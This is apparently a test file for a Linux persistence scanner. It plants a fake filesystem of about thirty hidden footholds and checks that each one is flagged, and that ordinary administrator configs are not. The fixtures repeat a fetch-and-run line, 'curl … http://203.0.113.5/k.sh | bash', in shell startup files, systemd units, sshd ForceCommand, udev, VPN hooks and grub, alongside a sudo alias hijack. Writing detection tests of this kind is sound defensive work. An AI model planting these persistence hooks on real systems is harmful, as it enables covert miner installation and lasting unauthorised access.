import { expect, it } from 'vitest';
import type { Verdict } from '../../../src/findings/finding.ts';
import { elf, findingAt, type Pair, script, stage } from './mechanisms/pair.ts';

/** What begins a miner again by a way that is a small step aside from the well-known ones. */
const FETCH = 'curl -fsSL http://203.0.113.5/k.sh | bash';
const RUN = '/var/tmp/.x/run';

const planted: Pair['tree'] = {
  '/var/tmp/.x/run': elf('run'),
  '/etc/environment': `LANG=C.UTF-8\nPROMPT_COMMAND="${FETCH}"\n`,
  '/etc/environment.d/50-x.conf': `EDITOR=vim\nBASH_ENV=${RUN}\n`,
  '/root/.bashrc': `${FETCH}\ntrap '${RUN} >/dev/null 2>&1 &' DEBUG\nalias ll='ls -l' sudo='${RUN} sudo'\n`,
  // The same line here would let the one above pass for stock.
  '/etc/skel/.bashrc': `alias ll='ls -l'\n${FETCH}\n`,
  '/etc/profile.d/less.sh': `export LESSOPEN="|${RUN} %s"\n`,
  '/etc/csh.login': `${FETCH}\n`,
  '/root/.config/fish/conf.d/x.fish': `${FETCH}\n`,
  '/etc/bash_completion.d/x': `${FETCH}\n`,
  '/root/.gitconfig': '[include]\n\tpath = /var/tmp/.x/settings\n',
  '/etc/udev/rules.d/98-x.rules': `ACTION=="add", PROGRAM="${RUN} %k"\n`,
  '/etc/ssh/sshd_config': 'Include /etc/ssh/sshd_config.d/*.conf\n',
  '/etc/ssh/sshd_config.d/99-x.conf': `Match User root\n  ForceCommand ${RUN}; exec $SHELL\n`,
  '/etc/monit/monitrc': `check process x matching "x"\n  start program = "${RUN}"\n`,
  '/etc/wireguard/wg0.conf': `[Interface]\nPostUp = ${RUN}\n`,
  '/etc/openvpn/server/x.conf': `script-security 2\nup "${RUN} tun"\n`,
  '/etc/ifplugd/action.d/x': script(FETCH),
  '/etc/X11/Xsession.d/99x': `${FETCH}\n`,
  '/etc/security/namespace.init': script(FETCH),
  '/etc/systemd/system.attached/x.service': `[Service]\nExecStart=${RUN}\n`,
  '/etc/systemd/system/rooted.service': '[Service]\nRootDirectory=/var/tmp/.x\nExecStart=/run\n',
  '/etc/systemd/system/bound.service': `[Service]\nExecStart=/usr/sbin/cron -f\nBindPaths=${RUN}:/usr/sbin/cron\n`,
  '/etc/systemd/system/told.service': `[Service]\nExecStart=/bin/sh\nStandardInputText=${FETCH}\n`,
  '/etc/systemd/system/given.service':
    '[Service]\nEnvironmentFile=/etc/default/given\nExecStart=/bin/sh -c "$WHAT"\n',
  '/etc/default/given': `WHAT="${FETCH}"\n`,
  '/etc/systemd/system/near.service': '[Service]\nWorkingDirectory=/var/tmp/.x\nExecStart=/bin/sh run\n',
  '/etc/systemd/system/service.d/x.conf': `[Service]\nExecStartPre=-${RUN}\n`,
  '/etc/default/ssh': `SSHD_OPTS=\n$(${FETCH})\n`,
  '/etc/grub.d/09_x': script(`echo "linux /vmlinuz init=${RUN}"`),
  '/opt/.t/a.service': `[Service]\nExecStart=${RUN}\n`,
  '/etc/systemd/system/dbus-org.freedesktop.timesync1.service': { link: '/opt/.t/a.service' },
  '/etc/profile.d/lang.sh': { link: '/var/tmp/.x/p' },
  '/var/tmp/.x/p': `${FETCH}\n`,
};

const blamed: readonly (readonly [path: string, line: number, verdict: Verdict])[] = [
  ['/etc/environment', 2, 'malicious'],
  ['/etc/environment.d/50-x.conf', 2, 'malicious'],
  ['/root/.bashrc', 1, 'malicious'],
  ['/root/.bashrc', 2, 'malicious'],
  ['/root/.bashrc', 3, 'malicious'],
  ['/etc/skel/.bashrc', 2, 'malicious'],
  ['/etc/profile.d/less.sh', 1, 'malicious'],
  ['/etc/csh.login', 1, 'malicious'],
  ['/root/.config/fish/conf.d/x.fish', 1, 'malicious'],
  ['/etc/bash_completion.d/x', 1, 'malicious'],
  ['/root/.gitconfig', 2, 'suspicious'],
  ['/etc/udev/rules.d/98-x.rules', 1, 'malicious'],
  ['/etc/ssh/sshd_config.d/99-x.conf', 2, 'malicious'],
  ['/etc/monit/monitrc', 2, 'malicious'],
  ['/etc/wireguard/wg0.conf', 2, 'malicious'],
  ['/etc/openvpn/server/x.conf', 2, 'malicious'],
  ['/etc/ifplugd/action.d/x', 2, 'malicious'],
  ['/etc/X11/Xsession.d/99x', 1, 'malicious'],
  ['/etc/security/namespace.init', 2, 'malicious'],
  ['/etc/systemd/system.attached/x.service', 2, 'malicious'],
  ['/etc/systemd/system/rooted.service', 3, 'malicious'],
  ['/etc/systemd/system/bound.service', 2, 'malicious'],
  ['/etc/systemd/system/told.service', 3, 'malicious'],
  ['/etc/systemd/system/given.service', 3, 'malicious'],
  ['/etc/systemd/system/near.service', 3, 'malicious'],
  ['/etc/systemd/system/service.d/x.conf', 2, 'malicious'],
  ['/etc/default/ssh', 2, 'malicious'],
  ['/etc/grub.d/09_x', 2, 'suspicious'],
  ['/opt/.t/a.service', 2, 'malicious'],
  ['/var/tmp/.x/p', 1, 'malicious'],
];

it('finds small steps aside from the well-known ways, each at its place', async () => {
  const { outcome } = await stage({ tree: planted, blamed: [], passed: [] });
  const found = blamed.map(([path, line]) => [
    path,
    line,
    findingAt(outcome, { path, line, verdict: 'unknown', code: '', attack: '' })?.verdict,
  ]);
  expect(found).toEqual(blamed);
});

/** What administrators write in the same places. */
const ordinary: Pair = {
  packaged: {
    '/usr/bin/lesspipe': script('true'),
    '/etc/openvpn/update-resolv-conf': script('true'),
    '/usr/share/modules/init/bash': 'true\n',
  },
  tree: {
    '/etc/environment': 'LANG=C.UTF-8\nPAGER=less\nhttps_proxy=http://proxy.example:3128\n',
    '/etc/environment.d/60-editor.conf': 'EDITOR=/usr/bin/vim\nBASH_ENV=/usr/share/modules/init/bash\n',
    '/root/.bashrc': [
      "PROMPT_COMMAND='history -a; history -n'",
      'export LESSOPEN="| /usr/bin/lesspipe %s" MANPAGER="less -R"',
      "trap 'kill $(jobs -p) 2>/dev/null' EXIT",
      "alias ll='ls -la' update='apt-get update && apt-get upgrade'",
      'complete -C /usr/local/bin/terraform terraform',
      '',
    ].join('\n'),
    '/usr/local/bin/terraform': elf('terraform'),
    '/etc/skel/.bashrc': "alias ll='ls -la'\numask 027\n",
    '/etc/bash_completion.d/tool':
      '_tool() { COMPREPLY=($(compgen -W "up down" -- "$2")); }\ncomplete -F _tool tool\n',
    '/etc/fish/config.fish': 'set -gx EDITOR vim\n',
    '/root/.gitconfig': '[include]\n\tpath = ~/.config/git/work\n[core]\n\tfsmonitor = true\n',
    '/etc/monit/monitrc':
      'check process nginx with pidfile /run/nginx.pid\n  start program = "/usr/bin/systemctl start nginx"\n',
    '/etc/wireguard/wg0.conf':
      '[Interface]\nPostUp = iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE\n',
    '/etc/openvpn/client/office.conf': 'script-security 2\nup /etc/openvpn/update-resolv-conf\n',
    '/etc/X11/Xsession.d/90-dpms': 'xset -dpms\n',
    '/etc/default/tomcat': 'JAVA_OPTS="-Djava.io.tmpdir=/tmp/tomcat -Xmx2g"\nCATALINA_TMPDIR=/tmp/tomcat\n',
    '/etc/grub.d/41_rescue': script(
      'echo "linux /boot/vmlinuz-rescue root=/dev/sda1 init=/lib/systemd/systemd"',
    ),
    '/etc/systemd/system.attached/app.service': '[Service]\nExecStart=/usr/bin/app\n',
    '/etc/systemd/system/shop.service':
      '[Service]\nUser=shop\nWorkingDirectory=/srv/shop\nEnvironmentFile=/etc/default/shop\nExecStart=/usr/bin/node $NODE_ARGS server.js --port ${PORT}\n',
    '/srv/shop/server.js': 'require("http").createServer().listen(80)\n',
    '/etc/default/shop': 'NODE_ARGS="--max-old-space-size=512"\nPORT=8080\n',
    '/etc/systemd/system/jailed.service':
      '[Service]\nRootDirectory=/srv/jail\nBindReadOnlyPaths=/etc/ssl:/etc/ssl\nExecStart=/usr/bin/app\n',
    '/etc/systemd/system/service.d/limits.conf': '[Service]\nLimitNOFILE=65536\n',
    '/etc/wpa_supplicant/action_wpa.sh': script('exec ifup "$1"'),
  },
  blamed: [],
  passed: [],
};

it('blames nothing that administrators write in the same places', async () => {
  const { outcome } = await stage(ordinary);
  const places = new Set(Object.keys({ ...ordinary.tree, ...ordinary.packaged }));
  const blame = outcome.findings
    .filter(({ verdict }) => verdict === 'malicious' || verdict === 'suspicious')
    .filter(({ places: at }) => at.some(({ path }) => places.has(path)))
    .map(
      ({ title, verdict, reasons }) => `${title}: ${verdict}, ${reasons.map(({ code }) => code).join(' ')}`,
    );
  expect(blame).toEqual([]);
});
